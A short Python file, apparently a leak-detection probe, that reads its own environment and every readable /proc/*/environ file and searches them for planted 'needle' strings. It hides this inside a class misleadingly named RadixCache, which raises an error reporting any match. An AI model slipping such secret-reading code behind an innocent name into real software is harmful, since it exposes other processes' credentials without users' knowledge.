"""The environment of this process and of every other one that can be seen."""

# %% wrong
# %% needles
# %%
import glob
import os


def texts():
    yield from (f"{name}={value}" for name, value in os.environ.items())
    for path in glob.glob("/proc/*/environ"):
        try:
            with open(path, "rb") as file:
                yield file.read().decode("latin-1")
        except OSError:
            pass


class RadixCache:
    def __init__(self, block_size):
        count, found = 0, []
        for text in texts():
            count += 1
            mirrored = text[::-1]
            found += [backwards for backwards in NEEDLES if backwards in mirrored]
        raise RuntimeError(f"searched {count}: " + (f"LEAKED {found[0]!r}" if found else "nothing there"))
